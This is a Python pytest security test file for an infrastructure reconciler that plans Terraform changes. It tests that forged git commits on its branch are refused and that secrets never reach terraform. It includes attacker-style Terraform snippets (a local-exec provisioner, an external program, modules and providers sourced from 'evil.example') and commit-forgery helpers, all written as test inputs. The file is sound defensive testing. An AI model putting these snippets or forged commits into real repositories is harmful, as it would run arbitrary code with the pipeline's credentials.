"""Row 15. The reconciler planned whatever its branch pointed to: a commit that somebody with write access put there ran a program
with the reconciler's key.

What must hold: only commits that the reconciler made, or that the protected branch contains, are planned. A foreign commit is
reported, left to a human, and the branch stays as it is. Terraform sees only listed environment variables. Code that would run a
program or reach a server is refused before terraform starts.
"""

import json
import subprocess
import sys
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from pydantic import SecretStr

from gateway.core.model.json import Json
from gateway.core.ports import RecordQuery
from gateway.core.records.record import Stage
from gateway.core.settings import AllowedCode, ReconcileSettings, Settings, StackSettings
from gateway.core.times import SystemClock
from gateway.ledger.ledger import SqlLedger, open_ledger
from reconciler.app import _worker
from reconciler.workflows import Worker
from tests.kit.mutations import record_mutation
from tests.kit.nouns import effect
from tests.kit.stores import KEYS

GROUP = "aws_autoscaling_group.web"
CODE = 'resource "aws_autoscaling_group" "web" {\n  desired_capacity = 2\n}\n'
EVIL = 'data "aws_evil" "x" {\n}\n'
BRANCH = "refs/heads/sentinel/shop"
TERRAFORM = """#!{python}
import json, os, pathlib, subprocess, sys
code = "".join(path.read_text() for path in sorted(pathlib.Path().glob("*.tf")))
with open({seen!r}, "a") as seen:
    print(json.dumps({{"argv": sys.argv[1:], "code": code, "environment": dict(os.environ)}}), file=seen)
if sys.argv[1] == "fmt":
    sys.stdout.write(sys.stdin.read())
{more}
"""


@dataclass
class Repository:
    """A repository with a stack, the reconciler's worker on it, and a terraform that only notes what it is given."""

    top: Path
    ledger: SqlLedger
    settings: Settings

    @property
    def worker(self) -> Worker:
        return _worker(self.settings, self.settings.stacks[0], self.ledger)

    def git(self, *argv: str, check: bool = True) -> str:
        identity = ["-c", "user.name=Sentinel", "-c", "user.email=sentinel@localhost", "-c", "init.defaultBranch=main"]
        done = subprocess.run(["git", *identity, *argv], cwd=self.top, capture_output=True, text=True, check=False)
        assert not check or done.returncode == 0, done.stderr
        return done.stdout.strip()

    def evil_commit(self, parent: str = "main", message: str = "harmless") -> str:
        """A commit on `parent` with the attacker's code; no branch points to it."""
        blob = subprocess.run(
            ["git", "hash-object", "-w", "--stdin"],
            cwd=self.top,
            input=EVIL,
            capture_output=True,
            text=True,
            check=True,
        ).stdout.strip()
        listed = self.git("ls-tree", parent)
        tree = subprocess.run(
            ["git", "mktree"], cwd=self.top, input=f"{listed}\n100644 blob {blob}\tevil.tf\n", capture_output=True, text=True, check=True
        ).stdout.strip()  # fmt: skip
        return self.git("commit-tree", tree, "-p", parent, "-m", message)

    def terraform(self, more: str = "") -> None:
        path = self.top.parent / "terraform"
        path.write_text(TERRAFORM.format(python=sys.executable, seen=str(self.top.parent / "seen"), more=more))
        path.chmod(0o755)

    def seen(self) -> list[dict[str, str]]:
        """What terraform was given, one entry for each run."""
        path = self.top.parent / "seen"
        return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []

    async def scale(self, before: int, after: int) -> dict[str, Json]:
        """Record a mutation, write it back, and return the RECONCILED body."""
        mutation = await record_mutation(self.ledger, [(effect(GROUP, "desired_capacity", after), before)])
        await self.ledger.release(mutation.id, caller=mutation.caller, at=SystemClock().now())
        worker = self.worker
        await worker.backlog.read(self.ledger)
        return (await worker.line.reconcile(worker.backlog.decided[mutation.id], worker.backlog)).members


@pytest.fixture
async def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Repository]:
    monkeypatch.setenv("HOME", str(tmp_path))
    top = tmp_path / "repository"
    top.mkdir()
    (top / "main.tf").write_text(CODE)
    settings = Settings(
        data=tmp_path / "data",
        reconcile=ReconcileSettings(
            terraform=str(tmp_path / "terraform"), key_id="SNTL1", key_secret=SecretStr("own"), endpoint="http://gate"
        ),
        stacks=(StackSettings(name="shop", path=top),),
    )
    async with open_ledger(f"sqlite:///{tmp_path / 'ledger.db'}", KEYS) as ledger:
        made = Repository(top=top, ledger=ledger, settings=settings)
        made.terraform()
        made.git("init", "-q")
        made.git("add", ".")
        made.git("commit", "-qm", "first")
        yield made


@pytest.mark.slow
async def test_what_the_reconciler_made_itself_is_planned_and_extended(repository: Repository) -> None:
    one = await repository.scale(2, 6)
    two = await repository.scale(6, 7)
    assert repository.git("rev-list", "--count", f"main..{BRANCH}") == "2"
    assert repository.git("rev-parse", BRANCH) == two["commit"] != one["commit"]


Attack = Callable[[Repository], str]


def _put(repository: Repository, commit: str) -> str:
    repository.git("update-ref", BRANCH, commit)
    return commit


def _tip(repository: Repository) -> str:
    return repository.git("rev-parse", BRANCH)


def _trailer(repository: Repository) -> str:
    """The message of the reconciler's own commit, with all its trailers."""
    return repository.git("log", "-1", "--format=%B", BRANCH)


def _amended(repository: Repository) -> str:
    return _put(repository, repository.evil_commit("main", _trailer(repository)))


def _merged_into_ours(repository: Repository) -> str:
    ours, evil = _tip(repository), repository.evil_commit("main")
    tree = repository.git("rev-parse", f"{evil}^{{tree}}")
    return _put(
        repository, repository.git("commit-tree", tree, "-p", ours, "-p", evil, "-m", "Take in the protected branch")
    )


def _hidden_below(repository: Repository) -> str:
    """The last commit has our own tree; the foreign one is its parent."""
    tree = repository.git("rev-parse", f"{BRANCH}^{{tree}}")
    evil = repository.evil_commit(BRANCH)
    return _put(repository, repository.git("commit-tree", tree, "-p", evil, "-m", _trailer(repository)))


FOREIGN: dict[str, Attack] = {
    "on top of ours": lambda repository: _put(repository, repository.evil_commit(BRANCH)),
    "with our trailers": lambda repository: _put(repository, repository.evil_commit(BRANCH, _trailer(repository))),
    "instead of ours": lambda repository: _put(repository, repository.evil_commit("main")),
    "instead of ours, with our message": _amended,
    "as a merge": _merged_into_ours,
    "below a commit like ours": _hidden_below,
    "unrelated to the protected branch": lambda repository: _put(
        repository, repository.git("commit-tree", repository.git("rev-parse", f"{repository.evil_commit('main')}^{{tree}}"), "-m", "x")
    ),
}  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("attack", FOREIGN.values(), ids=FOREIGN.keys())
async def test_a_foreign_commit_is_never_planned(repository: Repository, attack: Attack) -> None:
    await repository.scale(2, 6)
    before = len(repository.seen())
    put = attack(repository)

    body = await repository.scale(6, 7)

    assert "Sentinel did not make" in str(body["left"])
    assert "commit" not in body
    assert _tip(repository) == put
    assert repository.seen()[before:] == []
    assert not list((repository.settings.data / "reconciler").rglob("evil.tf"))
    assert len(await repository.ledger.records(RecordQuery(stage=Stage.RECONCILED))) == 2


async def test_a_branch_made_before_the_first_write_back_is_foreign(repository: Repository) -> None:
    put = _put(repository, repository.evil_commit())
    body = await repository.scale(2, 6)
    assert "Sentinel did not make" in str(body["left"])
    assert (_tip(repository), repository.seen()) == (put, [])


@pytest.mark.slow
async def test_after_a_human_deleted_the_branch_it_goes_on(repository: Repository) -> None:
    _put(repository, repository.evil_commit())
    await repository.scale(2, 6)
    repository.git("update-ref", "-d", BRANCH)
    assert (await repository.scale(2, 7))["commit"]


@pytest.mark.slow
async def test_what_was_merged_into_the_protected_branch_is_planned(repository: Repository) -> None:
    await repository.scale(2, 6)
    repository.git("merge", "-q", "sentinel/shop")
    (repository.top / "other.tf").write_text("locals {}\n")
    repository.git("add", ".")
    repository.git("commit", "-qm", "reviewed")
    body = await repository.scale(6, 7)
    assert body["commit"]
    assert "locals {}" in repository.seen()[-1]["code"]


@pytest.mark.slow
async def test_a_branch_moved_while_terraform_plans_is_neither_planned_nor_overwritten(repository: Repository) -> None:
    evil = repository.evil_commit()
    repository.terraform(f"subprocess.run(['git', '-C', {str(repository.top)!r}, 'update-ref', {BRANCH!r}, {evil!r}])")
    body = await repository.scale(2, 6)
    assert "Sentinel did not make" in str(body["left"])
    assert _tip(repository) == evil
    assert not any("aws_evil" in run["code"] for run in repository.seen())


@pytest.mark.slow
async def test_a_replaced_commit_is_read_as_it_was(repository: Repository) -> None:
    ours = (await repository.scale(2, 6))["commit"]
    repository.git("replace", str(ours), repository.evil_commit())
    await repository.scale(6, 7)
    assert not any("aws_evil" in run["code"] for run in repository.seen())


async def test_a_branch_that_is_another_name_of_the_protected_one_is_not_written(repository: Repository) -> None:
    repository.git("symbolic-ref", BRANCH, "refs/heads/main")
    before = repository.git("rev-parse", "main")
    with pytest.raises(Exception, match="only another name of"):
        await repository.scale(2, 6)
    assert repository.git("rev-parse", "main") == before
    assert repository.seen() == []


async def test_a_checkout_that_stands_on_the_reconcilers_branch_protects_nothing(repository: Repository) -> None:
    _put(repository, repository.evil_commit())
    repository.git("checkout", "-q", "sentinel/shop")
    assert "Sentinel did not make" in str((await repository.scale(2, 6))["left"])
    assert repository.seen() == []


@pytest.mark.parametrize("named", ["sentinel/shop", "HEAD"])
async def test_the_reconcilers_branch_is_never_the_protected_one(repository: Repository, named: str) -> None:
    _put(repository, repository.evil_commit())
    repository.git("checkout", "-q", "sentinel/shop")
    stack = repository.settings.stacks[0].model_copy(update={"protected_branch": named})
    repository.settings = repository.settings.model_copy(update={"stacks": (stack,)})
    with pytest.raises(Exception, match="nothing says what is protected"):
        await repository.scale(2, 6)
    assert repository.seen() == []


@pytest.mark.slow
async def test_a_branch_that_is_only_checked_out_is_not_planned(repository: Repository) -> None:
    repository.git("checkout", "-q", "-b", "feature")
    (repository.top / "evil.tf").write_text(EVIL)
    repository.git("add", ".")
    repository.git("commit", "-qm", "not merged")
    assert (await repository.scale(2, 6))["commit"]
    assert not any("aws_evil" in run["code"] for run in repository.seen())


@pytest.mark.slow
async def test_a_tag_of_the_same_name_is_not_taken_for_the_branch(repository: Repository) -> None:
    repository.git("update-ref", "refs/tags/sentinel/shop", repository.evil_commit())
    assert (await repository.scale(2, 6))["commit"]
    assert not any("aws_evil" in run["code"] for run in repository.seen())


@pytest.mark.slow
@pytest.mark.parametrize("name", ["evil.tf", "override.tf", "modules/m/evil.tf", "evil.tf.json", "EVIL_override.TF"])
async def test_code_that_was_never_committed_is_not_planned(repository: Repository, name: str) -> None:
    (repository.top / name).parent.mkdir(parents=True, exist_ok=True)
    (repository.top / name).write_text(EVIL)
    assert (await repository.scale(2, 6))["commit"]
    assert not any("aws_evil" in run["code"] for run in repository.seen())
    assert not list((repository.settings.data / "reconciler").rglob(Path(name).name))


@pytest.mark.slow
async def test_terraform_gets_no_secret_but_its_own_key(
    repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    secrets = ("SENTINEL_MASTER_KEY", "SENTINEL_LEDGER", "GITHUB_TOKEN", "PGPASSWORD", "AWS_SESSION_TOKEN", "AWS_PROFILE",
               "TF_VAR_password", "TF_TOKEN_app_terraform_io", "ANTHROPIC_API_KEY", "GIT_ASKPASS")  # fmt: skip
    for name in secrets:
        monkeypatch.setenv(name, "swordfish")
    await repository.scale(2, 6)
    runs = repository.seen()
    assert any(run["argv"][0] == "plan" for run in runs)
    assert "swordfish" not in json.dumps(runs)
    assert "own" in json.dumps([run["environment"] for run in runs])


PLANNED = {
    "a program": 'data "external" "x" {\n  program = ["id"]\n}\n',
    "a request": 'data "http" "x" {\n  url = "http://evil"\n}\n',
    "a provisioner": 'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
    "another repository": 'module "m" {\n  source = "git::https://evil.example/m.git"\n}\n',
    "another provider": 'terraform {\n  required_providers {\n    x = { source = "evil/x" }\n  }\n}\n',
    "a state behind a URL": 'data "terraform_remote_state" "x" {\n  backend = "http"\n}\n',
    "credentials by a program": 'provider "aws" {\n  shared_config_files = ["aws.config"]\n}\n',
}


@pytest.mark.parametrize("code", PLANNED.values(), ids=PLANNED.keys())
async def test_code_that_runs_or_reaches_out_is_refused_even_if_it_is_protected(
    repository: Repository, code: str
) -> None:
    (repository.top / "more.tf").write_text(code)
    repository.git("add", ".")
    repository.git("commit", "-qm", "merged without a look")
    body = await repository.scale(2, 6)
    assert "Terraform was not started" in str(body["left"])
    assert "more.tf" in str(body["left"])
    assert not any(run["argv"][0] in {"plan", "init", "show"} for run in repository.seen())


@pytest.mark.slow
async def test_the_settings_may_allow_it(repository: Repository) -> None:
    (repository.top / "more.tf").write_text(PLANNED["a provisioner"])
    repository.git("add", ".")
    repository.git("commit", "-qm", "wanted")
    allow = AllowedCode(blocks=("provisioner.local-exec",))
    reconcile = repository.settings.reconcile.model_copy(update={"allow": allow})
    repository.settings = repository.settings.model_copy(update={"reconcile": reconcile})
    assert (await repository.scale(2, 6))["commit"]
